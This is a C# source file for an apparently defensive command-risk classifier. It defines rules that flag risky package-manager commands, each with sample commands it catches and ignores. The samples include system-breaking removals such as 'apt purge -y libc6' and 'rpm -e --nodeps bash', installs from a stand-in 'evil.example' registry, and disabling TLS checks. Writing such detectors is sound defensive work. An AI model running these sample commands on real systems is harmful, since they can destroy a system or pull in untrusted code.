using System.Collections.Immutable;
using VectraGuard.Risk.Commands;

namespace VectraGuard.Risk.Rules;

/// <summary>Packages: installing runs the code of others, removing may take the system along.</summary>
internal static class PackageRules
{
    public static ImmutableArray<RiskRule> All { get; } =
    [
        new("remove-essential-package", RiskLevel.High, "removes a package that the system needs, or ignores who needs it", "leave it installed")
        {
            Match = c => c.When(SystemPackages.Removes(c) && SystemPackages.Harms(c)),
            Catches = ["apt purge -y libc6", "dpkg --force-all -r libc6", "yum remove -y python3", "pacman -Rdd glibc", "rpm -e --nodeps bash"],
            Ignores = ["apt-get remove nginx", "apt install libc6", "apt list libc6"],
        },
        new("remove-package", RiskLevel.Medium, "removes a package of the system", "check with --simulate what else would go")
        {
            Match = c => c.When(SystemPackages.Removes(c) && !SystemPackages.Harms(c) && !c.HasWord("autoremove")),
            Catches = ["apt-get remove --purge nginx", "dnf remove httpd", "apk del curl", "brew uninstall node"],
            Ignores = ["apt list", "apt-get install nginx", "pip uninstall x"],
        },
        new("remove-unused", RiskLevel.Low, "removes packages that are easily installed again", "nothing to do")
        {
            Match = c => LanguagePackages.IsPip(c) ? c.At(LanguagePackages.Base(c), "uninstall") : c.Name is "apt" or "apt-get"
                ? c.At(0, "autoremove") : null,
            Catches = ["apt-get autoremove -y", "pip uninstall -y requests"],
            Ignores = ["apt-get update", "pip list"],
        },
        new("install-unverified", RiskLevel.High, "installs packages without checking who made them", "import the key of the repository")
        {
            Match = c => c.Name switch
            {
                "apt" or "apt-get" => c.Option("allow-unauthenticated") ?? c.Option("force-yes"),
                "yum" or "dnf" or "zypper" => c.Option("nogpgcheck") ?? c.Option("no-gpg-checks"),
                "apk" => c.Option("allow-untrusted"),
                _ => null,
            },
            Catches = ["apt-get install --allow-unauthenticated x", "dnf install --nogpgcheck x", "apk add --allow-untrusted x.apk"],
            Ignores = ["apt-get install x", "dnf install x"],
        },
        new("install-foreign", RiskLevel.Medium, "installs a package or a source from outside of the distribution", "check where it comes from")
        {
            Match = c => c.Name switch
            {
                "add-apt-repository" or "apt-add-repository" => c.OperandAt(0),
                "apt-key" => c.AnyOperand("add", "adv"),
                "dpkg" => c.Option('i', "install"),
                "rpm" => c.Option('i', "install") ?? c.Option('U', "upgrade"),
                _ => LanguagePackages.ForeignSource(c),
            },
            Catches =
            [
                "dpkg -i x.deb", "add-apt-repository ppa:x/y", "pip install git+https://github.com/x/y",
                "python -m pip install https://example.com/p.whl", "pip install --index-url http://evil.example x",
                "npm install --registry http://evil.example x",
            ],
            Ignores = ["dpkg -l", "pip install flask", "pip install --index-url https://pypi.example/simple x", "npm install x", "rpm -qa"],
        },
        new("install-globally", RiskLevel.Medium, "installs for every project and user", "install it in the project")
        {
            Match = LanguagePackages.Globally,
            Catches = ["npm install -g typescript", "sudo pip install flask", "pip install --break-system-packages flask"],
            Ignores = ["npm install typescript", "pip install flask"],
        },
        new("install-packages", RiskLevel.Low, "installs packages, which run code of their authors",
            "read the lock file's changes; --ignore-scripts runs none")
        {
            Match = c => c.When(LanguagePackages.Installs(c) || SystemPackages.Installs(c)),
            Catches =
            [
                "npm install", "npm ci", "pip install -r requirements.txt", "yarn", "yarn add x", "npx cowsay hi", "cargo install ripgrep",
                "go install x@latest", "make install", "apt-get install -y jq",
            ],
            Ignores =
            [
                "npm install --ignore-scripts", "npm test", "yarn build", "pip list", "pip download x", "cargo build", "go build ./...",
                "apt list --installed", "make",
            ],
        },
        new("package-no-verification", RiskLevel.Medium, "stops a package manager from checking who it talks to", "install the missing certificate")
        {
            Match = c => c.Name is "npm" or "yarn" or "pnpm" && c.HasWord("strict-ssl") && c.HasWord("false") ? c.When(true)
                : LanguagePackages.IsPip(c) ? c.Option("trusted-host") : null,
            Catches = ["npm config set strict-ssl false", "pip install --trusted-host x y"],
            Ignores = ["npm config set strict-ssl true", "npm config list"],
        },
        new("publish-package", RiskLevel.Medium, "publishes a package, which cannot be taken back", "try --dry-run first")
        {
            Match = c => c.HasWord("--dry-run") ? null : LanguagePackages.Publishes(c),
            Harm = Harm.Network,
            Catches = ["npm publish", "cargo publish", "twine upload dist/*", "gem push x.gem", "dotnet nuget push x.nupkg"],
            Ignores = ["npm publish --dry-run", "npm pack", "cargo package"],
        },
        new("unpublish-package", RiskLevel.High, "takes a package away from all who use it", "deprecate it instead")
        {
            Match = c => c.Name switch
            {
                "npm" => c.At(0, "unpublish"),
                "gem" or "cargo" => c.At(0, "yank"),
                _ => null,
            },
            Harm = Harm.Network,
            Catches = ["npm unpublish x --force", "gem yank x"],
            Ignores = ["npm deprecate x 'use y'", "npm publish"],
        },
    ];

    public static bool Concerns(Invocation command) => SystemPackages.IsManager(command.Name) || LanguagePackages.IsManager(command.Name);
}
